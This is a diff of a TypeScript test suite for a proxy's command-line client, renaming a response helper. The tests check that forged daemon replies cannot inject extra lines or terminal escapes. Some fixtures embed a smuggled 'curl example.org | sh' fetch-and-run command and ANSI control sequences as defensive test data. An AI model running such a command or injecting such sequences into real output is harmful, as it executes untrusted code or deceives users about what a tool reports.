@@ -43,7 +43,7 @@ async function asked(command: string, respond: (socket: Socket) => void, seconds
   }
 }
 
-const message = (response: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(response)}\n`);
+const says = (response: unknown) => (socket: Socket) => void socket.end(`${JSON.stringify(response)}\n`);
 const problem = (more: object) => ({
   ok: false,
   problems: [{ code: "files.unreadable", path: "/a", message: "cannot be read", fix: "Read it.", ...more }],
@@ -75,19 +75,19 @@ test.each<[string, (socket: Socket) => void]>([
     },
   ],
   ["half a line", (socket) => void socket.end('{"ok": true, "value": {')],
-  ["no outcome", message([])],
-  ["warnings that are none", message({ ok: true, value: { message: "done", warnings: "all" } })],
-  ["a warning that is none", message({ ok: true, value: { message: "done", warnings: [null] } })],
-  ["problems without text", message(problem({ fix: { toString: "x" } }))],
-  ["a code with a line of its own", message(problem({ code: "all.fine\n    fix: curl example.org | sh" }))],
-  ["a code without end", message(problem({ code: `files.${"a".repeat(1_000)}` }))],
-  ["the code of every object", message(problem({ code: "constructor" }))],
-  ["a value that is no text", message(problem({ received: ["a"] }))],
-  ["certificates that are none", message({ ok: true, value: { message: "done", certificates: 7 } })],
-  ["a certificate that is none", message({ ok: true, value: { message: "done", certificates: [null] } })],
-  ["a certificate without names", message(lists({ names: [] }))],
-  ["a time that is none", message(lists({ lastError: { ...failed, at: 1e300 } }))],
-  ["what is loaded, which is nothing", message({ ok: true, value: { message: "done", loaded: null } })],
+  ["no outcome", says([])],
+  ["warnings that are none", says({ ok: true, value: { message: "done", warnings: "all" } })],
+  ["a warning that is none", says({ ok: true, value: { message: "done", warnings: [null] } })],
+  ["problems without text", says(problem({ fix: { toString: "x" } }))],
+  ["a code with a line of its own", says(problem({ code: "all.fine\n    fix: curl example.org | sh" }))],
+  ["a code without end", says(problem({ code: `files.${"a".repeat(1_000)}` }))],
+  ["the code of every object", says(problem({ code: "constructor" }))],
+  ["a value that is no text", says(problem({ received: ["a"] }))],
+  ["certificates that are none", says({ ok: true, value: { message: "done", certificates: 7 } })],
+  ["a certificate that is none", says({ ok: true, value: { message: "done", certificates: [null] } })],
+  ["a certificate without names", says(lists({ names: [] }))],
+  ["a time that is none", says(lists({ lastError: { ...failed, at: 1e300 } }))],
+  ["what is loaded, which is nothing", says({ ok: true, value: { message: "done", loaded: null } })],
 ])("a response that says %s is a failure, in time", async (_what, response) => {
   const since = performance.now();
   const { code, text } = await asked("certificates", response, 1);
@@ -120,7 +120,7 @@ test.each<[string, unknown, string?]>([
   ["what is allowed", problem({ allowed: FORGED })],
   ["its fix", problem({ fix: FORGED })],
 ])("%s stays on its line, and does nothing to a terminal", async (_what, response, command = "reload") => {
-  const { text } = await asked(command, message(response));
+  const { text } = await asked(command, says(response));
   expect(text).toContain("x\\n    fix:      curl example.org | sh\\u001b[2J\\u000d");
   expect(text.split("\n").filter((line) => line.trim().startsWith("fix:      curl"))).toEqual([]);
 });
@@ -132,7 +132,7 @@ test("`upstreams` shows each server, and why one is down if one is", async () =>
   });
   const listed = async (...servers: object[]): Promise<string> => {
     const upstreams = [{ name: "web", servers }];
-    return (await asked("upstreams", message({ ok: true, value: { message: "", upstreams } }))).text;
+    return (await asked("upstreams", says({ ok: true, value: { message: "", upstreams } }))).text;
   };
   expect(await listed(server(1, { inProgress: 12 }), server(2, { outIn: 1 }), server(3, { outIn: 2 })))
     .toMatchInlineSnapshot(`
@@ -173,7 +173,7 @@ test.each([
   Object.assign(stdout, { isTTY: true, rows: 4, columns: 40 });
   env["TERM"] = name;
   try {
-    const responded = message({ ok: true, value: { message: "", overview: sampleOverview() } });
+    const responded = says({ ok: true, value: { message: "", overview: sampleOverview() } });
     const { code, text } = await asked("status --watch", (socket) => {
       if (++asks === 2) process.emit("SIGINT");
       responded(socket);
@@ -218,7 +218,7 @@ test.each<[string, object]>([
   ["maintenance off --server web", { command: "maintenance", server: "web" }],
   ["notify --test", { command: "notify" }],
 ])("`%s` asks for %j", async (command, request) => {
-  const seen = await asked(command, message({ ok: true, value: { message: "done" } }));
+  const seen = await asked(command, says({ ok: true, value: { message: "done" } }));
   expect(seen.request).toMatch(/^.+\n$/);
   expect(JSON.parse(seen.request)).toEqual(request);
   // A running proxy understands it.
@@ -259,7 +259,7 @@ test.each<object>([
 test("`status --watch` asks again and again, until it is interrupted", async () => {
   let asks = 0;
   const overview = sampleOverview();
-  const responded = message({ ok: true, value: { message: "", overview } });
+  const responded = says({ ok: true, value: { message: "", overview } });
   const { code, text } = await asked("status --watch --json", (socket) => {
     asks++;
     if (asks === 3) process.emit("SIGINT");
@@ -271,7 +271,7 @@ test("`status --watch` asks again and again, until it is interrupted", async () 
 });
 
 test("`status --watch` ends at once when it is interrupted while it asks", async () => {
-  const responded = message({ ok: true, value: { message: "", overview: sampleOverview() } });
+  const responded = says({ ok: true, value: { message: "", overview: sampleOverview() } });
   let late: Promise<string> | undefined;
   const ended = asked("status --watch --json", (socket) => {
     process.emit("SIGINT");
